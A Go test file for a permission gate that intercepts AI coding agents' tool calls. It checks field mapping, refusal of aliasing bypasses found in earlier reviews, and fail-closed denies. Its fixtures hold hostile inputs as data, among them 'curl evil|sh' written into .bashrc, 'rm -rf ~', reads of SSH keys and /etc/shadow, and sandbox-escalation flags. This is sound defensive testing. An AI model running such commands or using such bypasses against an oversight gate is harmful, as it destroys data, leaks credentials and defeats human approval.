package agents

import (
	"reflect"
	"strings"
	"testing"

	"github.com/codewhale-ls/codewhale-ls/gate"
)

// TestMapping: each agent's event becomes the Codewhale tool with the
// fields its layers read (command, path, content, patch, url).
func TestMapping(t *testing.T) {
	for _, c := range []struct {
		agent, event, tool string
		want               map[string]any // fields that must be present
	}{
		{"claude-code", `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"cwd":"/w","tool_use_id":"t1"}`, "exec_shell", map[string]any{"command": "ls"}},
		{"claude-code", `{"tool_name":"Read","tool_input":{"file_path":"/w/a"}}`, "read_file", map[string]any{"path": "/w/a"}},
		{"claude-code", `{"tool_name":"Write","tool_input":{"file_path":"/w/a","content":"x"}}`, "write_file", map[string]any{"path": "/w/a", "content": "x"}},
		{"claude-code", `{"tool_name":"Edit","tool_input":{"file_path":"/w/a"}}`, "edit_file", map[string]any{"path": "/w/a"}},
		{"claude-code", `{"tool_name":"Grep","tool_input":{"pattern":"p","path":"/w"}}`, "grep_files", map[string]any{"pattern": "p", "path": "/w"}},
		{"claude-code", `{"tool_name":"WebFetch","tool_input":{"url":"https://x"}}`, "fetch_url", map[string]any{"url": "https://x"}},
		{"claude-code", `{"tool_name":"mcp__github__create_issue","tool_input":{"title":"t"}}`, "mcp_github_create_issue", map[string]any{"title": "t"}},
		{"claude-code", `{"tool_name":"Frobnicate","tool_input":{}}`, "unmapped:Frobnicate", map[string]any{}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"read_file","tool_input":{"file_path":"/home/u/.ssh/id_rsa"}}`, "unmapped:read_file", map[string]any{"file_path": "/home/u/.ssh/id_rsa"}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}`, "exec_shell", map[string]any{"command": "ls"}},
		{"codex", `{"tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch"}}`, "apply_patch", map[string]any{"patch": "*** Begin Patch"}},
		{"codex", `{"tool_name":"mcp__s__t","tool_input":{}}`, "mcp_s_t", map[string]any{}},
		{"gemini-cli", `{"hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":{"command":"ls"}}`, "exec_shell", map[string]any{"command": "ls"}},
		{"gemini-cli", `{"tool_name":"read_file","tool_input":{"file_path":"a"}}`, "read_file", map[string]any{"path": "a"}},
		{"gemini-cli", `{"tool_name":"write_file","tool_input":{"file_path":"a","content":"x"}}`, "write_file", map[string]any{"path": "a", "content": "x"}},
		{"gemini-cli", `{"tool_name":"replace","tool_input":{"file_path":"a"}}`, "edit_file", map[string]any{"path": "a"}},
		{"gemini-cli", `{"tool_name":"list_directory","tool_input":{"dir_path":"d"}}`, "list_dir", map[string]any{"path": "d"}},
		{"copilot-cli", `{"toolName":"bash","toolArgs":"{\"command\":\"ls\"}","cwd":"/w"}`, "exec_shell", map[string]any{"command": "ls"}},
		{"copilot-cli", `{"toolName":"view","toolArgs":{"path":"a"}}`, "read_file", map[string]any{"path": "a"}},
		{"copilot-cli", `{"toolName":"create","toolArgs":"{\"path\":\"a\",\"file_text\":\"x\"}"}`, "write_file", map[string]any{"path": "a", "content": "x"}},
		{"copilot-cli", `{"toolName":"edit","toolArgs":"{\"path\":\"a\"}"}`, "edit_file", map[string]any{"path": "a"}},
		{"cursor", `{"hook_event_name":"beforeShellExecution","command":"ls","cwd":"/w"}`, "exec_shell", map[string]any{"command": "ls"}},
		{"cursor", `{"hook_event_name":"beforeReadFile","file_path":"/w/a","workspace_roots":["/w"]}`, "read_file", map[string]any{"path": "/w/a"}},
		{"cursor", `{"hook_event_name":"beforeMCPExecution","tool_name":"mcp__s__t","tool_input":"{\"a\":1}"}`, "mcp_s_t", map[string]any{"a": float64(1)}},
		{"cursor", `{"hook_event_name":"preToolUse","tool_name":"Write","tool_input":{"path":"a","contents":"x"}}`, "write_file", map[string]any{"path": "a", "content": "x"}},
	} {
		a, _ := Lookup(c.agent)
		call, err := a.Parse([]byte(c.event))
		if err != nil {
			t.Errorf("%s %s: %v", c.agent, c.event, err)
			continue
		}
		if call.Tool != c.tool {
			t.Errorf("%s %s: tool %q, want %q", c.agent, c.event, call.Tool, c.tool)
		}
		for k, v := range c.want {
			if !reflect.DeepEqual(call.Input[k], v) {
				t.Errorf("%s %s: input[%s] = %v, want %v", c.agent, c.event, k, call.Input[k], v)
			}
		}
	}
}

// TestMappingPassesOnlyWhatTheAgentActsOn: Codewhale's fields come from
// the agent's own; a field spelled as Codewhale's that the agent's tool does
// not read is refused (the first review's bypasses, each an allow before);
// other fields pass on, so a shell call asking for more than a command is
// not a read-only command to Codewhale (the second review's bypasses);
// harmless ones are dropped.
func TestMappingPassesOnlyWhatTheAgentActsOn(t *testing.T) {
	for _, c := range []struct {
		agent, event string
		want         map[string]any // nil: refused
	}{
		{"claude-code", `{"tool_name":"Read","tool_input":{"file_path":"x","offset":3}}`, map[string]any{"path": "x", "offset": float64(3)}},
		{"claude-code", `{"tool_name":"Write","tool_input":{"file_path":"/home/u/.bashrc","content":"curl evil|sh","path":"/ws/a.txt"}}`, nil},
		{"claude-code", `{"tool_name":"Edit","tool_input":{"file_path":"secrets/key","path":"src/ok.go","old_string":"a","new_string":"b"}}`, nil},
		{"claude-code", `{"tool_name":"Write","tool_input":{"path":"/ws/a.txt","content":"x"}}`, nil},
		{"claude-code", `{"tool_name":"Bash","tool_input":{"command":"ls","description":"list","timeout":1000}}`, map[string]any{"command": "ls"}},
		{"claude-code", `{"tool_name":"Bash","tool_input":{"command":"ls","dangerouslyDisableSandbox":true}}`, map[string]any{"command": "ls", "dangerouslyDisableSandbox": true}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"rm -rf ~","workdir":"/"}}`,
			map[string]any{"command": "rm -rf ~", "cwd": "/"}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"ls","shell":"/tmp/evil","tty":true,"yield_time_ms":10}}`,
			map[string]any{"command": "ls", "shell": "/tmp/evil", "tty": true}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"ls","action":"poll"}}`, nil},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"curl x","sandbox_permissions":"require_escalated","justification":"net"}}`,
			map[string]any{"command": "curl x", "sandbox_permissions": "danger-full-access", "justification": "net"}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"shell","tool_input":{"command":"ls","with_escalated_permissions":true,"justification":"net"}}`,
			map[string]any{"command": "ls", "sandbox_permissions": "danger-full-access", "justification": "net"}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"shell","tool_input":{"command":"ls","sandbox_permissions":"use_default"}}`,
			map[string]any{"command": "ls"}},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"shell","tool_input":{"command":"ls","sandbox_permissions":"use_default","justification":"x"}}`,
			map[string]any{"command": "ls"}},
		{"gemini-cli", `{"hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":{"command":"ls","description":"d","is_background":true}}`,
			map[string]any{"command": "ls", "background": true}},
		{"copilot-cli", `{"toolName":"bash","toolArgs":"{\"command\":\"ls\",\"description\":\"d\",\"mode\":\"sync\",\"sessionId\":\"s\"}"}`,
			map[string]any{"command": "ls"}},
		{"copilot-cli", `{"toolName":"bash","toolArgs":"{\"command\":\"ls\",\"mode\":\"async\",\"detach\":true}"}`,
			map[string]any{"command": "ls", "background": true}},
		{"cursor", `{"hook_event_name":"preToolUse","tool_name":"Shell","tool_input":{"command":"ls","is_background":true}}`,
			map[string]any{"command": "ls", "background": true}},
		{"cursor", `{"hook_event_name":"preToolUse","tool_name":"Write","tool_input":{"path":"/ws/a","file_path":"/ws/a","contents":"x"}}`,
			map[string]any{"path": "/ws/a", "content": "x"}},
	} {
		a, _ := Lookup(c.agent)
		call, err := a.Parse([]byte(c.event))
		if c.want == nil {
			if err == nil || !strings.Contains(err.Error(), "refused") {
				t.Errorf("%s %s: %v %v, want a refusal", c.agent, c.event, call.Input, err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s %s: %v", c.agent, c.event, err)
			continue
		}
		if !reflect.DeepEqual(call.Input, c.want) {
			t.Errorf("%s %s: input = %v, want %v", c.agent, c.event, call.Input, c.want)
		}
	}
}

// TestVSCodeToolsMap: VS Code's agent hooks use Claude's event with VS
// Code's tool names; a call for one target maps, one for several is refused.
func TestVSCodeToolsMap(t *testing.T) {
	a, _ := Lookup("claude-code")
	for _, c := range []struct {
		event, tool string
		input       map[string]any
		refused     bool
	}{
		{`{"tool_name":"run_in_terminal","tool_input":{"command":"npm test","explanation":"x","isBackground":false}}`, "exec_shell", map[string]any{"command": "npm test", "background": false}, false},
		{`{"tool_name":"create_file","tool_input":{"filePath":"/ws/a.ts","content":"x"}}`, "write_file", map[string]any{"path": "/ws/a.ts", "content": "x"}, false},
		{`{"tool_name":"replace_string_in_file","tool_input":{"filePath":"/ws/a.ts","oldString":"a","newString":"b"}}`, "edit_file", map[string]any{"path": "/ws/a.ts", "oldString": "a", "newString": "b"}, false},
		{`{"tool_name":"editFiles","tool_input":{"files":["src/main.ts"]}}`, "edit_file", map[string]any{"path": "src/main.ts"}, false},
		{`{"tool_name":"editFiles","tool_input":{"files":["src/main.ts","/home/u/.bashrc"]}}`, "", nil, true},
		{`{"tool_name":"multi_replace_string_in_file","tool_input":{"replacements":[{"filePath":"/ws/a"},{"filePath":"/ws/a"}]}}`, "edit_file", map[string]any{"path": "/ws/a"}, false},
		{`{"tool_name":"multi_replace_string_in_file","tool_input":{"replacements":[{"filePath":"/ws/a"},{"filePath":"/ws/b"}]}}`, "", nil, true},
		{`{"tool_name":"fetch_webpage","tool_input":{"urls":["https://a.example","https://b.example"],"query":"q"}}`, "", nil, true},
		{`{"tool_name":"apply_patch","tool_input":{"input":"*** Begin Patch\n*** End Patch","explanation":"x"}}`, "apply_patch", map[string]any{"patch": "*** Begin Patch\n*** End Patch", "explanation": "x"}, false},
	} {
		call, err := a.Parse([]byte(c.event))
		if c.refused {
			if err == nil || !strings.Contains(err.Error(), "more than one target") {
				t.Errorf("%s: err %v, want a refusal naming the targets", c.event, err)
			}
			continue
		}
		if err != nil || call.Tool != c.tool || !reflect.DeepEqual(call.Input, c.input) {
			t.Errorf("%s: %s %v (%v), want %s %v", c.event, call.Tool, call.Input, err, c.tool, c.input)
		}
	}
}

// TestConflictingAliasesAreRefused: where an agent has two names for one
// field and the call gives them different values, the call is refused.
func TestConflictingAliasesAreRefused(t *testing.T) {
	for _, c := range []struct{ agent, event string }{
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"exec_command","tool_input":{"cmd":"rm -rf ~","command":"echo hi"}}`},
		{"codex", `{"hook_event_name":"PreToolUse","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\n*** Add File: /home/u/.bashrc\n+x\n*** End Patch","patch":"*** Begin Patch\n*** Add File: ok.txt\n+x\n*** End Patch"}}`},
		{"cursor", `{"hook_event_name":"preToolUse","tool_name":"Read","tool_input":{"path":"/ws/ok","file_path":"/home/u/.ssh/id_rsa"}}`},
		{"gemini-cli", `{"hook_event_name":"BeforeTool","tool_name":"read_file","tool_input":{"file_path":"/ws/ok","absolute_path":"/etc/shadow"}}`},
	} {
		a, _ := Lookup(c.agent)
		if _, err := a.Parse([]byte(c.event)); err == nil || !strings.Contains(err.Error(), "different values") {
			t.Errorf("%s %s: err = %v", c.agent, c.event, err)
		}
	}
}

func TestParseErrorsNameTheProblem(t *testing.T) {
	for _, c := range []struct{ agent, event, want string }{
		{"claude-code", ``, "empty"},
		{"claude-code", "  \n", "empty"},
		{"claude-code", `{"tool_name":`, "ends early, at byte 13"},
		{"claude-code", `{"tool_name" 5}`, "at byte 14"},
		{"claude-code", `[1]`, "not a JSON object"},
		{"claude-code", `null`, "not a JSON object"},
		{"claude-code", `{"tool_name":"Bash"} {}`, "trailing data"},
		{"claude-code", `{"tool_name":5}`, `"tool_name"`},
		{"claude-code", `{"tool_input":{}}`, "names no tool"},
		{"claude-code", `{"hook_event_name":"PostToolUse","tool_name":"Bash"}`, `"hook_event_name"`},
		{"gemini-cli", `{"hook_event_name":"AfterTool","tool_name":"x"}`, `"hook_event_name"`},
		{"copilot-cli", `{"toolName":"bash","toolArgs":"not json"}`, `"toolArgs"`},
		{"cursor", `{"hook_event_name":"afterFileEdit"}`, `"hook_event_name"`},
	} {
		a, _ := Lookup(c.agent)
		if _, err := a.Parse([]byte(c.event)); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s %q: error %v, want one naming %s", c.agent, c.event, err, c.want)
		}
	}
}

// TestAskWithoutAnAgentAsk: an agent whose ask would not reach a person
// gets a deny that says a human's approval was needed, why the agent
// cannot ask, and how to get an approver (the console, or the repository
// open in an editor); one whose ask does gets its ask.
func TestAskWithoutAnAgentAsk(t *testing.T) {
	for _, name := range Names() {
		a, _ := Lookup(name)
		out := a.Answer(Reply{Verdict: gate.Ask, Reason: "approval required"})
		asked := strings.Contains(out.Stdout, `"ask"`)
		if asked != (a.NoAsk == "") {
			t.Errorf("%s: ask answered %+v; NoAsk %q", name, out, a.NoAsk)
		}
		if a.NoAsk != "" && (!strings.Contains(out.Stdout, "needs a human's approval") || !strings.Contains(out.Stdout, a.NoAsk) ||
			!strings.Contains(out.Stdout, "`codewhale-ls approvals`") || !strings.Contains(out.Stdout, "open the repository in your editor with codewhale-ls") || strings.Contains(out.Stdout, `"allow"`)) {
			t.Errorf("%s: an ask it cannot put must be a deny saying why: %+v", name, out)
		}
	}
}

// TestClaudesModeOnlyTakesTheAskAway: in a mode where Claude would not show
// an ask to a person, the ask becomes a deny; the mode never loosens.
func TestClaudesModeOnlyTakesTheAskAway(t *testing.T) {
	a, _ := Lookup("claude-code")
	for mode, keepsAsk := range map[string]bool{"": false, "default": true, "plan": true, "acceptEdits": true,
		"bypassPermissions": false, "auto": false, "dontAsk": false, "someNewMode": false} {
		event := `{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}`
		if mode != "" {
			event += `,"permission_mode":"` + mode + `"`
		}
		call, err := a.Parse([]byte(event + "}"))
		if err != nil {
			t.Fatal(err)
		}
		ask := a.Final(Reply{Verdict: gate.Ask, Reason: "r"}, call)
		if (ask.Verdict == gate.Ask) != keepsAsk || (!keepsAsk && !strings.Contains(ask.Reason, mode)) || (mode == "" && !strings.Contains(ask.Reason, "permission mode")) {
			t.Errorf("mode %q: an ask became %+v", mode, ask)
		}
		for _, v := range []gate.Verdict{gate.Allow, gate.Deny} {
			if got := a.Final(Reply{Verdict: v, Reason: "r"}, call); got.Verdict != v {
				t.Errorf("mode %q: %s became %s", mode, v, got.Verdict)
			}
		}
	}
}

// TestDenyIsNeverAFailOpenExit: every agent's deny exits 0 (with a deny
// it reads) or 2; any other code is a failed hook, which the agents run
// the tool after.
func TestDenyIsNeverAFailOpenExit(t *testing.T) {
	for _, name := range Names() {
		a, _ := Lookup(name)
		for _, v := range []gate.Verdict{gate.Deny, "", "bogus"} {
			out := a.Answer(Reply{Verdict: v, Reason: "r"})
			if out.Exit != 0 && out.Exit != 2 {
				t.Errorf("%s %q: exit %d", name, v, out.Exit)
			}
			if !strings.Contains(out.Stdout, "deny") {
				t.Errorf("%s %q: stdout %q holds no deny", name, v, out.Stdout)
			}
		}
	}
}
